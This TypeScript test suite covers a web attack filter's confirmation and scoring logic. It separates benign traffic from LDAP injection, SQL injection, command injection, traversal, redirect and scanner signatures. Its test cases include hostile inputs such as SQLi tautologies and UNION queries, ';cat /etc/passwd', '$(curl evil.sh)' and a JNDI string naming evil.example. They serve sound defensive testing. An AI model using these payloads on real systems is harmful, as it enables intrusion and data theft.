  ["ldapi", "aXvL\"bC&_D}H)PcW(|C4", false],
  ["ldapi", "root)(&)", true],
  ["ldapi", "(|(uid=*)(cn=admin))", true],
  // An attribute's name starts with a letter or is an OID's digits.
  ["ldapi", "NN'V}zlk)(_S_&", false],
  ["ldapi", "x)(2.5.4.3=admin", true],
  // The fuzz lists' `*()|&'`; an empty group after a wildcard alone is a regex's or code's.
  ["ldapi", "*()|&'", true],
  ["ldapi", "x*()&y", true],
  ["ldapi", "^a.*()$", false],
  // scanner: a tool's name as a whole word
  ["scanner", "sqlmap/1.7.2#stable (https://sqlmap.org)", true],
  ["scanner", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))", true],
  ["scanner", "Fuzz Faster U Fool v2.1.0-dev", true],
  ["scanner", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", false],
  ["scanner", "curl/8.4.0", false],
  ["scanner", "hydrangea garden zappa", false],
];

describe("semantic confirmation", () => {
  it.each(CASES)("%s: %j -> %s", (klass, text, confirmed) => {
    expect(core.confirms(klass, text)).toBe(confirmed);
  });

  // A window further into a text starts at an arbitrary byte: its first word is no command at a
  // line's start (`…wh|at that time`), as the text's own first word may be.
  // A schema's `id` column is no `id` command: `id` takes a user's name, and a column type is none.
  it("rce: `id` before a column type is a schema's column", () => {
    expect(core.confirms("rce", "ets (\n  id INTEGER NOT NULL,\n  title varchar NULL,")).toBe(false);
    expect(core.confirms("rce", ";id int")).toBe(false);
    for (const text of [";id", "x\nid\n", ";id root", "|id text;cat /etc/passwd"]) expect(core.confirms("rce", text), text).toBe(true);
  });

  it("rce: only a text's start is a command's position with no separator before it", () => {
    for (const text of ["at that time the parade was held", "del shard\n    p1_param_rrefs = model", "ls  \n----  ----"]) {
      expect(core.confirms("rce", text, true), text).toBe(true);
      expect(core.confirms("rce", text, false), text).toBe(false);
    }
    for (const text of [";cat /etc/passwd", "x | id", "a\nwhoami\n", "$(curl evil.sh)"]) {
      expect(core.confirms("rce", text, false), text).toBe(true);
    }
  });

  it("rce and traversal: a script's interpreter line is no command and no system path", () => {
    for (const text of ["#!/usr/bin/env python3\n# Copyright (c) Meta Platforms", "#! /bin/bash\n# builds the docs"]) {
      expect(core.confirms("rce", text), text).toBe(false);
      expect(core.confirms("traversal", text), text).toBe(false);
    }
    for (const text of [";/usr/bin/id", "x=1 /bin/cat /etc/passwd"]) expect(core.confirms("rce", text), text).toBe(true);
    expect(core.confirms("traversal", "file=/usr/local/etc/secrets")).toBe(true);
  });

  it("every attack class has cases both ways", () => {
    for (const k of core.heads.slice(1)) {
      const mine = CASES.filter(([c]) => c === k);
      expect(mine.some(([, , v]) => v), k).toBe(true);
      if (!["open_redirect", "ssrf"].includes(k)) expect(mine.some(([, , v]) => !v), k).toBe(true);
    }
  });

  it("holds unconfirmed windows outside the attack bands: real-traffic shapes score over 50", () => {
    for (const [where, text] of [["query", "ids=516,516,4,4,4,4,7,7"], ["query", "href=javascript:void(0)"], ["body:json", '{"v":"[object Object]"}'],
      // A CSP report's sample of the script it blocked (`'report-sample'`): scored 16 when `.log(` read as a log file's name.
      ["body:json", JSON.stringify({ "csp-report": { "document-uri": "https://shop.example/", "script-sample": "console.log('x')" } })],
      // Google Tag Manager's first line as such a sample: scored 20 when any member of `window` read as script.
      ["body:json", JSON.stringify({ "csp-report": { "document-uri": "https://shop.example/", "script-sample": "window.dataLayer = window.dataLayer || [" } })]] as const) {
      expect(core.score(where, text).score, text).toBeGreaterThan(50);
    }
  });

  // A search operator's operand (Reddit's and search engines' `url:`, `site:`) is a site named, not a
  // place a browser goes to: `q=url:http://google.com` scored 13 (open_redirect) before.
  it("open_redirect: a site after a search operator is a search", () => {
    for (const q of ["q=url:http://google.com", "q=site:https://example.com", "q=link:https://news.ycombinator.com/"]) {
      expect(core.score("query", q).score, q).toBeGreaterThan(20);
    }
    for (const q of ["next=//evil.example", "next=https://trusted.example@evil.example", "q=url://evil.example"]) {
      expect(core.score("query", q).score, q).toBeLessThanOrEqual(20);
    }
  });

  it("a piece the zoom cuts from a window confirms only when its window does", () => {
    // Python posted as a field's value: a piece of it alone read as SQL (scored 19), its window not.
    const code = "args = main_arg_parser.parse_args()\n\n    if args.subcommand is None:\n        print(\"ERROR: specify either train or eval\")\n        sys.exit(1)\n    if args.accel and not torch.accelerator.is_available():\n        print(\"ERROR: accelerator is not available, try running on CPU\")\n        sys.exit(1)";
    expect(core.score("body:json", JSON.stringify({ note: code })).score).toBeGreaterThan(20);
    // A payload the prose dilutes for the model is whole for its window's lexer.
    expect(core.score("body:json", JSON.stringify({ note: `Great product, fast shipping, would buy again. ' OR 1=1-- Thanks a lot!` })).score).toBeLessThanOrEqual(20);
  });

  it("prose quoting choices in an LLM tool's schema is no injection; the probe `A' OR 'B` is", () => {
    const schema = '{"unit":{"type":"string","description":"The unit of temperature, either \'celsius\' or \'fahrenheit\'"}}';
    expect(core.score("body:json", schema).score).toBeGreaterThan(50);
    expect(core.score("body:json", '{"q":"A\' OR \'B"}').score).toBeLessThanOrEqual(20);
  });

  // A value that is one whole, plain query (core/sqlquery.ts) is a query, not an injection into one:
  // SQL-over-HTTP APIs, BI tools and LLM messages send such values. Each of these scored 20 or under
  // before (10, 18, 20, 12). Injections that open with SELECT leave a string, comment, stack, union,
  // compare a value with itself, probe or enumerate, and stay flagged.
  it("sqli: a value that is one plain query is none; injections that open with SELECT are", () => {
    const plain = [
      "SELECT COUNT(*) FROM Album;",
      `SELECT "Name" FROM "Artist" WHERE "Country" = 'USA' LIMIT 5;`,
      "WITH t AS (SELECT * FROM orders WHERE status = 'shipped') SELECT COUNT(*) FROM t",
    ];
    for (const q of plain) {
      expect(core.score("query", "q=" + encodeURIComponent(q)).score, q).toBeGreaterThan(20);
      expect(core.score("body:json", JSON.stringify({ model: "gpt-4o", messages: [{ role: "user", content: q }] })).score, q).toBeGreaterThan(20);
    }
    expect(core.score("body:json", JSON.stringify({ statement: "SELECT COUNT(*) FROM Invoice;", warehouse: "COMPUTE_WH" })).score).toBeGreaterThan(20);
    const injections = [
      "select * from users where id=1 or 1=1",
      "SELECT * FROM users WHERE id = '1' OR '1' = '1'",
      // in a string the application opened, the value's first quote closes it: ` OR ''='` is code
      "SELECT a FROM b WHERE c=' OR ''='",
      "select * from users; drop table users",
      "select * from users union select 1,2",
      "SELECT * FROM users WHERE id = 1 AND SLEEP(5)",
      "SELECT 0x61646d696e FROM dual",
      "SELECT * FROM users WHERE name = 'a\\' OR 1=1 -- '",
      "SELECT name FROM sysibm.systables;",
      "SELECT * FROM information_schema.tables",
      "select user from mysql.user",
      "SELECT password FROM users WHERE username = 'admin'",
      "select username,password from users",
    ];
    for (const q of injections) expect(core.score("query", "q=" + encodeURIComponent(q)).score, q).toBeLessThanOrEqual(20);
    for (const q of [...plain]) expect(core.plainQuery(q), q).toBe(true);
    for (const q of injections) expect(core.plainQuery(q), q).toBe(false);
  });

  it.each([
    ["SELECT * FROM t WHERE deleted_at IS NOT NULL", true],
    ["SELECT CASE status WHEN 'shipped' THEN 1 ELSE 0 END FROM orders", true],
    ["SELECT * FROM t WHERE x BETWEEN 1 AND 5 AND y = 'a'", true],
    ["SELECT first_name || ' ' || last_name FROM people", true],
    ["SELECT * FROM t WHERE a <> 'b' AND c >= 2", true],
    ["SELECT [CustomerID] FROM [Customers] WHERE [Country] = 'Germany'", true],
    ["  select id from posts order by created_at desc limit 20 ;  ", true],
    // no table read, or not a query's start
    ["SELECT 1", false],
    ["selection FROM menu", false],
    ["Please select one from the list", false],
    // conditions an injection writes: literals compared, a condition opened by a literal
    ["SELECT * FROM t WHERE x BETWEEN 1 AND 5 OR 1", false],
    ["SELECT * FROM users WHERE id = 1 OR 2>1", false],
    ["SELECT * FROM t WHERE a = 1 AND (1=1)", false],
    ["SELECT * FROM t WHERE a = 1 AND 'x' LIKE 'x'", false],
    ["SELECT a FROM t WHERE b = 'x' OR true", false],
    ["SELECT a FROM t WHERE b = b", false],
    // a quoted span that is code once the application's string is closed, or left open
    ["SELECT a FROM t WHERE b = 'x or y'", false],
    ["SELECT a FROM t WHERE b = 'O''Brien'", false],
    ["SELECT a FROM t WHERE b = 'open", false],
    // two statements, comments, system variables, catalogues, probes
    ["SELECT a FROM t; SELECT b FROM u", false],
    // comments: inert ones are a query's notes; a quote in one closes the application's string
    ["SELECT a FROM t -- last errors", true],
    ["-- top customers\n/* saved by a BI tool */\nSELECT a FROM t", true],
    ["-- it's\nSELECT a FROM t", false],
    ["SELECT a FROM t /* daily report */ WHERE b = 1", true],
    ["SELECT a FROM t -- x' OR 1=1 --", false],
    ["SELECT a FROM t /*! union select 1 */", false],
    ["SELECT a FROM t /* x", false],
    ["SELECT @@version FROM dual", false],
    ["SELECT * FROM pg_roles", false],
    ["SELECT name FROM syscat.tables", false],
    ["SELECT a FROM t WHERE b = CHAR(65)", false],
  ])("plainQuery(%j) -> %s", (text, plain) => {
    expect(core.plainQuery(text)).toBe(plain);
  });

  // A schema's lines (core/sqlschema.ts) define and act on nothing: sqli's lexer reads a window again
  // with them blanked. A text-to-SQL prompt's schema dump scored 16 (sqli) before.
  it("sqli: a schema's lines are no injection; an injection beside them still is", () => {
    const schema = "CREATE TABLE users (\n  id INTEGER NOT NULL,\n  name varchar NULL,\n  email varchar NULL,\n  created_at datetime(6) NOT NULL,\n  updated_at datetime(6) NOT NULL\n);";
    expect(core.confirms("sqli", schema)).toBe(false);
    expect(core.confirms("sqli", "ble orders (\n  `id` int NOT NULL AUTO_INCREMENT,\n  `total` decimal(10,2) DEFAULT '0.00',\n  PRIMARY KEY (`id`)\n) ENGINE=InnoDB DEFAULT CHARSET=utf8mb4;")).toBe(false);
    expect(core.score("body:json", JSON.stringify({ model: "gpt-4o-mini", messages: [{ role: "system", content: schema }] })).score).toBeGreaterThan(20);
    for (const text of [
      schema + "\n' OR 1=1 --",
      "x'; CREATE TABLE cmd_exec(cmd_output text); COPY cmd_exec FROM PROGRAM 'id';--",
      "CREATE TABLE t (\n  id int,\n  name varchar DEFAULT 'x' UNION SELECT password FROM users\n);",
      "CREATE TABLE t (\n  id int,\n  name text DEFAULT '' OR 1=1 --'\n);",
    ]) expect(core.confirms("sqli", text), text).toBe(true);
  });

  // A plain query quoted as code in prose (core/sqlcode.ts) is an identifier to MySQL and SQLite and an
  // error elsewhere, never code: sqli's lexer reads the window again with such spans blanked. A
  // developer's sentence that quotes a parameterized query scored 9 (sqli) before.
  it("sqli: a plain query quoted as code is no injection; an injection beside the span, or in it, still is", () => {
    const prose = "Use `SELECT * FROM users WHERE id = ?` with a bound parameter, never string concatenation.";
    for (const text of [
      prose,
      "How do I speed up this query?\n\n```sql\nSELECT id, total FROM orders WHERE status = 'open' ORDER BY placed_at DESC LIMIT 10;\n```\n\nIt runs on Postgres 15.",
      "Both `SELECT a FROM b` and ```\nWITH r AS (SELECT c FROM d) SELECT COUNT(*) FROM r\n``` return one row.",
    ]) expect(core.confirms("sqli", text), text).toBe(false);
    expect(core.score("body:json", JSON.stringify({ messages: [{ role: "user", content: prose }] })).score).toBeGreaterThan(20);
    for (const text of [
      // The span is no plain query: a tautology, a union, a second statement, a password column.
      "Use `select * from users where id=1 or 1=1` with a bound parameter.",
      "Use `select * from users union select 1,2` with a bound parameter.",
      "```sql\nselect * from users; drop table users\n```",
      // The injection stands outside the spans.
      "`SELECT status FROM tickets` ' OR '1'='1",
      "`SELECT status FROM tickets`; DROP TABLE users; --",
      "1 UNION SELECT username, password FROM users -- `SELECT id FROM posts`",
      // A span the window does not close is read as it is; an odd backquote pairs with none.
      "x' UNION SELECT 1 FROM dual -- `SELECT a FROM b",
      "`SELECT a FROM b` ` UNION SELECT password FROM users",
    ]) expect(core.confirms("sqli", text), text).toBe(true);
  });

  // toolName reads a text once, comparing names only at the start of a run of letters; its rule is
  // still "a listed name, with no letter right before or after it". Checked against that rule, in
  // JavaScript, on names glued to letters, digits, punctuation and other names.
  it("scanner: a tool's name as a whole word, wherever it stands", () => {
    const tools = [...readFileSync(resolve(REPO_ROOT, "filter/core/confirm.ts"), "utf8").match(/const TOOLS[^\]]*\]/)![0].matchAll(/"([^"]+)"/g)].map((m) => m[1]);
    expect(tools.length).toBeGreaterThan(30);
    const isLetter = (c: string | undefined) => c !== undefined && /[A-Za-z]/.test(c);
    const rule = (t: string) => {
      const low = t.toLowerCase();
      return tools.some((name) => {
        for (let i = low.indexOf(name); i >= 0; i = low.indexOf(name, i + 1)) if (!isLetter(low[i - 1]) && !isLetter(low[i + name.length])) return true;
        return false;
      });
    };
    const bits = ["", "x", "X", "1", "/", " ", "-", "_", "(", ".", "mozilla", "Chrome/120", "zapp", "xsqlmap"];
    const rnd = prng(7);
    const pick = <T,>(a: T[]) => a[Math.floor(rnd() * a.length)];
    let hits = 0;
    for (let i = 0; i < 4000; i++) {
      let t = "";
      for (let k = 0, n = 1 + Math.floor(rnd() * 5); k < n; k++) t += rnd() < 0.4 ? pick(tools).replace(/^./, (c) => (rnd() < 0.5 ? c.toUpperCase() : c)) : pick(bits);
      const want = rule(t);
      if (want) hits++;
      expect(core.confirms("scanner", t), JSON.stringify(t)).toBe(want);
    }
    expect(hits).toBeGreaterThan(500);
    expect(hits).toBeLessThan(3500);
  });

  it("lets confirmed attacks through the gate", () => {
    for (const [where, text] of [["query", "id=1%27%20OR%20%271%27%3D%271"], ["query", "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"], ["header:User-Agent", "${jndi:ldap://evil.example/a}"]] as const) {
      expect(core.score(where, text).score, text).toBeLessThanOrEqual(20);
    }
  });
});

// A window that ends inside a word of a text that goes on: the lexers leave that word to the next
// window, which overlaps this one and reads it whole (filter/core/confirm.ts lexedLength).
describe("the word a window's end cuts", () => {
  const text = "fixed'}, 'command': {'name': 'execute_python_file', 'args': {}}";
  const cut = text.indexOf("execute") + 4; // the window ends after `exec`
  it("is left out when the text goes on in the same word", () => {
    expect(core.lexedLength(text, cut, false)).toBe(text.indexOf("execute"));
    // Read whole, `exec` would be SQL's.
    expect(core.confirms("sqli", text.slice(0, cut), false)).toBe(true);
    expect(core.confirms("sqli", text.slice(0, core.lexedLength(text, cut, false)), false)).toBe(false);
  });
  it("is read when the window closes its text, or ends at a word's end", () => {
    expect(core.lexedLength(text.slice(0, cut), cut, true)).toBe(cut);
    const atBlank = text.indexOf(" 'args'");
    expect(core.lexedLength(text, atBlank, false)).toBe(atBlank);
    expect(core.lexedLength("1 UNION SELECT x--", 14, false)).toBe(14); // `SELECT` ends where a blank follows
  });
  it("leaves none of a window that is one word", () => {
    expect(core.lexedLength("abcdefghijklmnop", 8, false)).toBe(0);
  });
});
